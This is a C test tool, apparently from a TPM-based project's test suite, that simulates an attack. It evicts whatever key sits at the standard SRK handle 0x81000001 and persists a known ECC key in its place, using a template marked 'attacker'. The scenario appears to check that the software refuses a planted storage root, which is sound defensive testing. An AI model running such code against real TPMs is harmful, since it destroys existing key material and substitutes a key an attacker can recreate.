/* SPDX-License-Identifier: MIT */
/*
 * plant-srk TCTI: the attack of the planted-srk-refused scenario.  Persists
 * at the SRK handle 0x81000001 an ECC key that is not the standard SRK (the
 * template's unique field set, so whoever runs this can make it again and
 * so knows it), evicting whatever is there.  Test tool: never shipped.
 */
#include <stdio.h>
#include <string.h>

#include <tss2/tss2_esys.h>
#include <tss2/tss2_rc.h>
#include <tss2/tss2_tctildr.h>

#define SRK_HANDLE 0x81000001u

static int failed(const char *what, TSS2_RC rc)
{
	fprintf(stderr, "plant-srk: %s: %s\n", what, Tss2_RC_Decode(rc));
	return 1;
}

int main(int argc, char **argv)
{
	static const TPM2B_SENSITIVE_CREATE empty_sensitive;
	static const TPM2B_DATA no_outside_info;
	static const TPML_PCR_SELECTION no_creation_pcrs;
	TPM2B_PUBLIC tmpl = {
		.publicArea = {
			.type = TPM2_ALG_ECC,
			.nameAlg = TPM2_ALG_SHA256,
			.objectAttributes = TPMA_OBJECT_FIXEDTPM | TPMA_OBJECT_FIXEDPARENT |
					    TPMA_OBJECT_SENSITIVEDATAORIGIN | TPMA_OBJECT_USERWITHAUTH |
					    TPMA_OBJECT_NODA | TPMA_OBJECT_RESTRICTED | TPMA_OBJECT_DECRYPT,
			.parameters.eccDetail = {
				.symmetric = { .algorithm = TPM2_ALG_AES, .keyBits.aes = 128, .mode.aes = TPM2_ALG_CFB },
				.scheme.scheme = TPM2_ALG_NULL,
				.curveID = TPM2_ECC_NIST_P256,
				.kdf.scheme = TPM2_ALG_NULL,
			},
			.unique.ecc.x = { .size = 8, .buffer = "attacker" },
		},
	};
	TSS2_TCTI_CONTEXT *tcti = NULL;
	ESYS_CONTEXT *esys = NULL;
	ESYS_TR primary = ESYS_TR_NONE, old = ESYS_TR_NONE, persisted = ESYS_TR_NONE;
	TSS2_RC rc;

	if (argc != 2) {
		fprintf(stderr, "usage: plant-srk TCTI\n");
		return 2;
	}
	rc = Tss2_TctiLdr_Initialize(argv[1], &tcti);
	if (rc != TSS2_RC_SUCCESS)
		return failed(argv[1], rc);
	rc = Esys_Initialize(&esys, tcti, NULL);
	if (rc != TSS2_RC_SUCCESS)
		return failed("Esys_Initialize", rc);
	rc = Esys_Startup(esys, TPM2_SU_CLEAR);
	if (rc != TSS2_RC_SUCCESS && rc != TPM2_RC_INITIALIZE)
		return failed("Startup", rc);
	if (Esys_TR_FromTPMPublic(esys, SRK_HANDLE, ESYS_TR_NONE, ESYS_TR_NONE, ESYS_TR_NONE, &old) ==
	    TSS2_RC_SUCCESS) {
		rc = Esys_EvictControl(esys, ESYS_TR_RH_OWNER, old, ESYS_TR_PASSWORD, ESYS_TR_NONE, ESYS_TR_NONE,
				       SRK_HANDLE, &persisted);
		if (rc != TSS2_RC_SUCCESS)
			return failed("evict the SRK there", rc);
	}
	rc = Esys_CreatePrimary(esys, ESYS_TR_RH_OWNER, ESYS_TR_PASSWORD, ESYS_TR_NONE, ESYS_TR_NONE, &empty_sensitive,
				&tmpl, &no_outside_info, &no_creation_pcrs, &primary, NULL, NULL, NULL, NULL);
	if (rc != TSS2_RC_SUCCESS)
		return failed("CreatePrimary", rc);
	rc = Esys_EvictControl(esys, ESYS_TR_RH_OWNER, primary, ESYS_TR_PASSWORD, ESYS_TR_NONE, ESYS_TR_NONE,
			       SRK_HANDLE, &persisted);
	if (rc != TSS2_RC_SUCCESS)
		return failed("persist", rc);
	Esys_FlushContext(esys, primary);
	Esys_Finalize(&esys);
	Tss2_TctiLdr_Finalize(&tcti);
	printf("plant-srk: a key of our own is persisted at 0x%08x\n", SRK_HANDLE);
	return 0;
}
